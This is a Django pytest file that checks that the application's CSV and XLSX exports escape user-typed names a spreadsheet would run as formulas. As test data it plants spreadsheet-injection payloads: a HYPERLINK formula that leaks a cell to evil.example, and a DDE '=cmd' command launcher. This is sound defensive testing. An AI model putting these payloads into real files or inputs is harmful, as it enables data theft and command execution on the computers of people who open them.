"""Every CSV and XLSX file the application hands out, with names users typed that a spreadsheet
would run as a formula (starting with = + - @, a tab or a carriage return): every such text cell
comes out escaped (a leading single quote, core.spreadsheets.escape_formula), no XLSX cell is a
formula, and numbers stay numbers. One world, every export:

- the applicants (companies:application.export), CSV and XLSX
- the ranking (matching:ranking.export), CSV and XLSX
- every dashboard table of the portfolio and of the programme (?export=<table>), CSV and XLSX
- the programme workbook (programmes:programme.export, a background job), XLSX
- the audit log (core:audit.export), CSV and XLSX

The applicant list template (companies:upload.template) holds no user text. A route named
"*export*" that is not listed here fails test_every_export_route_is_covered."""

import csv
import io
import re

import pytest
from django.urls import get_resolver, reverse
from openpyxl import load_workbook

from core.models import Job, Organisation
from core.spreadsheets import FORMULA_STARTS
from monitoring.views.dashboards import PORTFOLIO_TABLES, PROGRAMME_TABLES
from programmes.models import Role
from tests import factories
from tests.matching.test_staff_views import adviser, review
from tests.monitoring.test_reports import answered

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE = [HYPERLINK, "+1", "-2", "@SUM(1)", "\tx", "\rx"]
NUMBER = re.compile(r"-?\d+(\.\d+)?")
COVERED = {
    "companies:application.export",
    "matching:ranking.export",
    "programmes:programme.export",
    "api:programme.export",
    "core:audit.export",
}


def _csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row]


def _xlsx_cells(content: bytes) -> list[str]:
    cells = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        assert not sheet.title.startswith(FORMULA_STARTS), sheet.title
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


def _inert(name: str, content: bytes, kind: str) -> list[str]:
    """The text cells of the file, after checking none of them would run as a formula."""
    cells = _csv_cells(content) if kind == "csv" else _xlsx_cells(content)
    live = [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]
    assert live == [], (name, kind, live)
    return cells


@pytest.fixture
def world(programme):
    """A programme whose companies, contacts, counterpart, criterion, activity, venue and table
    are named with formulas; scored, scheduled and surveyed, so that every export has rows."""
    programme.title = "@SUM(1) programme"
    programme.save(update_fields=["title"])
    staff = factories.StaffUserFactory(
        username="staff",
        organisation=factories.OrganisationFactory(
            name="Agency", kind=Organisation.Kind.AGENCY, country="JP"
        ),
    )
    counterpart = factories.OrganisationFactory(name="\rx Chamber", country="VN")
    factories.ProgrammeOrganisationFactory(
        programme=programme, organisation=counterpart, role=Role.COUNTERPART
    )
    company = factories.CompanyFactory(
        legal_name=HYPERLINK,
        local_name="+1",
        latin_name="-2",
        contact_name="@SUM(1)",
        country="VN",
    )
    company.website = "\tx"  # as an import could write it
    company.save()
    application = factories.ApplicationFactory(
        programme=programme, company=company, counterpart=counterpart, eligible=True,
        status="eligible",
    )  # fmt: skip
    factories.AssessmentFactory(programme=programme)
    criterion = factories.CriterionFactory(programme=programme, name="=1+1 capability")
    review(application, adviser(programme, "aoki"), {criterion: 4})
    venue = factories.VenueFactory(name="+81 hall", city="-Osaka")
    session = factories.ActivityFactory(
        programme=programme, title="=cmd|' /C calc'!A0", venue=venue
    )
    factories.TableFactory(activity=session, number=1, label="@table")
    answered(programme)
    return {"programme": programme, "staff": staff}


def test_every_export_escapes_every_cell_a_spreadsheet_would_run(
    client, world, django_capture_on_commit_callbacks
):
    programme, staff = world["programme"], world["staff"]
    client.force_login(staff)
    client.post(  # a failed sign-in: the name typed goes into the audit log
        reverse("login"), {"username": HYPERLINK, "password": "wrong"}, HTTP_USER_AGENT="+ua"
    )
    client.force_login(staff)
    files = {}
    for kind in ("csv", "xlsx"):
        files[("applications", kind)] = client.get(
            reverse("companies:application.export", args=[programme.slug]), {"format": kind}
        )
        files[("ranking", kind)] = client.get(
            reverse("matching:ranking.export", args=[programme.slug]), {"format": kind}
        )
        files[("audit", kind)] = client.get(reverse("core:audit.export"), {"format": kind})
        for table in PORTFOLIO_TABLES:
            files[("portfolio " + table, kind)] = client.get(
                reverse("monitoring:dashboard.portfolio"), {"export": table, "format": kind}
            )
        for table in PROGRAMME_TABLES:
            files[("programme " + table, kind)] = client.get(
                reverse("monitoring:dashboard.programme", args=[programme.slug]),
                {"export": table, "format": kind},
            )
    with django_capture_on_commit_callbacks(execute=True):
        started = client.post(reverse("programmes:programme.export", args=[programme.slug]))
    assert started.status_code == 302
    job = Job.objects.get(kind="programme_export")
    assert job.status == Job.Status.SUCCEEDED, job.message
    workbook = job.result_file.read()

    seen = {}
    for (name, kind), response in files.items():
        assert response.status_code == 200, (name, kind, response.status_code)
        assert response["Content-Disposition"].startswith("attachment;"), (name, kind)
        seen[(name, kind)] = set(_inert(name, response.content, kind))
    seen[("workbook", "xlsx")] = set(_inert("workbook", workbook, "xlsx"))

    # The hostile names are there, escaped (not dropped): the checks above looked at them.
    for kind in ("csv", "xlsx"):
        assert {"'" + v for v in HOSTILE[:5]} <= seen[("applications", kind)]
        assert {"'" + HYPERLINK, "'+1", "'=1+1 capability"} <= seen[("ranking", kind)]
        for name in ("applications", "ranking"):  # the counterpart "\rx Chamber"
            assert any(re.fullmatch(r"'\sx Chamber", c) for c in seen[(name, kind)]), name
        assert "'" + HYPERLINK in seen[("audit", kind)] and "'+ua" in seen[("audit", kind)]
        assert "'@SUM(1) programme" in seen[("portfolio programmes", kind)]
    assert {"'=cmd|' /C calc'!A0", "'+81 hall", "'-Osaka"} <= seen[("workbook", "xlsx")]


def test_every_export_route_is_covered():
    names = set()

    def walk(patterns, prefix=""):
        for pattern in patterns:
            if hasattr(pattern, "url_patterns"):
                space = f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix
                walk(pattern.url_patterns, space)
            elif pattern.name and "export" in pattern.name:
                names.add(prefix + pattern.name)

    walk(get_resolver().url_patterns)
    assert names == COVERED
